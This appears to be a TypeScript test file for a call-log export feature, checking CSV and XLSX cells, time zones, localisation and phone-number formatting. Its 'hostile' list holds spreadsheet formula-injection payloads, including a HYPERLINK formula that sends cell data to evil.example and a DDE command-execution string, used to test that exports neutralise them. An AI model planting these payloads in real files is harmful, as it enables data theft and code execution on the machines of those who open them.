import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { ExportFormat, ExportInput, Source } from '../../src/index.ts'
import { testEngines, tester, type TestCore } from '../../src/testing/index.ts'
import {
  addCalls,
  addSource,
  bytesOf,
  csvRows,
  lan,
  openExports,
  untilWritten,
  xlsxRows,
} from './open-exports.ts'
import { sheetOf, textsIn } from '../../src/testing/read-sheet.ts'

/** What a spreadsheet would compute, dial out with, or break a line at. */
const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  'a return\r=1+1',
  '+84335550159',
  'plain, with "quotes"\r\n=1+1 in a second line',
  '0335550159',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b@SUM(1+1)',
  '\ufeff+1',
  '\u2028-1+1',
  '\u202e=1+1',
  '\u00ad=1+1',
  ' \u00a0\t＝1+1',
]

/** A sign that begins a formula, behind whatever a spreadsheet may drop before it. */
const begins = /^[^\p{L}\p{N}\p{P}\p{S}]*[=+\-@＝＋－＠]/u

describe.each(testEngines)('C1 the cells of an export on %s', (engine) => {
  let open: TestCore & { readonly source: Source }
  beforeAll(async () => {
    open = await openExports(engine)
  })
  afterAll(() => open.close())

  const rowsOf = async (input: Omit<ExportInput, 'format'>, format: ExportFormat) => {
    const { id } = await open.core.exports.create({ ...input, format }, lan)
    await untilWritten(open.core, id)
    const bytes = await bytesOf(open.core, id)
    return format === 'csv' ? csvRows(bytes) : xlsxRows(bytes)
  }

  test('nothing becomes a formula, and +84… stays readable', async () => {
    const source = await addSource(open.core, 'Asia/Tokyo')
    const calls = hostile.map((statusText, at) => ({
      startedAt: `2025-09-11T01:00:${String(59 - at)}Z`,
      statusText,
    }))
    await addCalls(open.core, source, calls)
    const wish = { filter: { sourceId: source.id }, columns: ['statusText'] } as const
    const csv = (await rowsOf(wish, 'csv')).slice(1).map(([cell]) => cell)
    expect(csv).toHaveLength(hostile.length)
    for (const cell of csv) {
      expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      expect(cell).not.toMatch(begins)
    }
    expect(csv[7]).toBe("'+84335550159")
    expect(csv[8]).toBe(hostile[8])
    const xlsx = (await rowsOf(wish, 'xlsx')).slice(1).map(([cell]) => cell)
    expect(xlsx).toEqual(hostile)
  })

  test('a CSV begins with a byte order mark and ends its lines as spreadsheets do', async () => {
    const { id } = await open.core.exports.create(
      { format: 'csv', columns: ['id', 'source'], language: 'vi', filter: { durationMin: 1 } },
      lan,
    )
    await untilWritten(open.core, id)
    expect((await bytesOf(open.core, id)).toString('utf8')).toBe('\uFEFFMã bản ghi,Tổng đài\r\n')
  })

  test('times are the wall clock of the zone, over both changes of the clocks', async () => {
    const source = await addSource(open.core, 'America/New_York')
    const moments = [
      ['2025-11-02T06:30:00Z', '2025-11-02 01:30:00'],
      ['2025-11-02T05:30:00Z', '2025-11-02 01:30:00'],
      ['2025-03-09T07:00:00Z', '2025-03-09 03:00:00'],
      ['2025-03-09T06:59:59Z', '2025-03-09 01:59:59'],
    ] as const
    await addCalls(
      open.core,
      source,
      moments.map(([startedAt]) => ({ startedAt })),
    )
    const wish = { filter: { sourceId: source.id }, columns: ['startedAt', 'answeredAt'] } as const
    const local = moments.map(([, text]) => text)
    const csv = await rowsOf(wish, 'csv')
    expect(csv[0]?.[0]).toBe('Start (America/New_York)')
    expect(csv.slice(1).map(([cell]) => cell)).toEqual(local)
    const xlsx = await rowsOf(wish, 'xlsx')
    const shown = xlsx.slice(1).map(([cell]) => textOf(cell))
    expect(shown).toEqual(local)
    const saigon = await rowsOf({ ...wish, timeZone: 'Asia/Ho_Chi_Minh' }, 'csv')
    expect(saigon.slice(1).map(([cell]) => cell)).toEqual([
      '2025-11-02 13:30:00',
      '2025-11-02 12:30:00',
      '2025-03-09 14:00:00',
      '2025-03-09 13:59:59',
    ])
  })

  test('telephone numbers and extensions are text in a workbook, seconds are numbers', async () => {
    const source = await addSource(open.core, 'Asia/Seoul')
    await addCalls(open.core, source, [
      { startedAt: '2025-09-11T01:00:00Z', callerNumber: '0335550159' },
    ])
    const columns = ['callerNumber', 'extension', 'hasRecording', 'startedAt'] as const
    const [, row] = await rowsOf({ filter: { sourceId: source.id }, columns }, 'xlsx')
    expect(row?.slice(0, 3)).toEqual(['0335550159', '0101', 'No'])
    expect(row?.[3]).toBeInstanceOf(Date)
  })

  test('found-15: a workbook holds what XML can hold, and no escape that readers would undo', async () => {
    const source = await addSource(open.core, 'Asia/Jakarta')
    const texts = ['a\ufffe\uffffb', '_x0041_ _x005F_', 'tab\tand 😀 and \u0085', 'a_x_b']
    const calls = texts.map((statusText, at) => ({
      startedAt: `2025-09-11T01:00:${String(59 - at)}Z`,
      statusText,
    }))
    await addCalls(open.core, source, calls)
    const wish = { filter: { sourceId: source.id }, columns: ['statusText'] } as const
    const { id } = await open.core.exports.create({ ...wish, format: 'xlsx' }, lan)
    await untilWritten(open.core, id)
    const sheet = sheetOf(await bytesOf(open.core, id))
    expect(sheet).not.toMatch(/[\ufffe\uffff]/)
    expect(sheet).toContain('a\ufffd\ufffdb')
    // As a reader that follows ECMA-376 gets them back.
    expect(textsIn(sheet).slice(1)).toEqual(['a\ufffd\ufffdb', ...texts.slice(1)])
  })

  test('words stand in the language of the file, codes in columns of their own', async () => {
    const source = await addSource(open.core, 'Asia/Taipei')
    await addCalls(open.core, source, [{ startedAt: '2025-09-11T01:00:00Z', recordingPath: '/a' }])
    const words = ['direction', 'status', 'hangupBy', 'hasRecording'] as const
    const codes = ['directionCode', 'statusCode', 'hangupByCode', 'hasRecordingCode'] as const
    const wish = { filter: { sourceId: source.id }, columns: [...words, ...codes] }
    const expected = {
      en: ['Inbound', 'Answered', 'Caller', 'Yes'],
      vi: ['Gọi vào', 'Đã trả lời', 'Người gọi', 'Có'],
    }
    for (const language of ['en', 'vi'] as const) {
      const [, csv] = await rowsOf({ ...wish, language }, 'csv')
      expect(csv).toEqual([...expected[language], 'INBOUND', 'ANSWERED', 'CALLER', 'true'])
      const [, xlsx] = await rowsOf({ ...wish, language }, 'xlsx')
      expect(xlsx).toEqual([...expected[language], 'INBOUND', 'ANSWERED', 'CALLER', true])
    }
  })

  test('B10 the name and the team of an extension stand in the file, and a team chooses its calls', async () => {
    const source = await addSource(open.core, 'Asia/Manila')
    await addCalls(open.core, source, [{ startedAt: '2025-09-11T01:00:00Z' }])
    const columns = ['extension', 'extensionName', 'team'] as const
    const filter = { sourceId: source.id }
    expect((await rowsOf({ filter, columns }, 'csv'))[1]).toEqual(['0101', '', ''])
    const csv = '0101,Nguyễn Lan,Bán hàng'
    await open.core.extensions.importCsv({ ...filter, csv }, tester)
    const inTeam = { ...filter, team: 'Bán hàng' }
    const rows = await rowsOf({ filter: inTeam, columns }, 'csv')
    expect(rows[1]).toEqual(['0101', 'Nguyễn Lan', 'Bán hàng'])
    expect(await rowsOf({ filter: { ...filter, team: 'Nobody' }, columns }, 'csv')).toHaveLength(1)
  })
})

function textOf(cell: unknown): string {
  return (cell as Date).toISOString().slice(0, 19).replace('T', ' ')
}
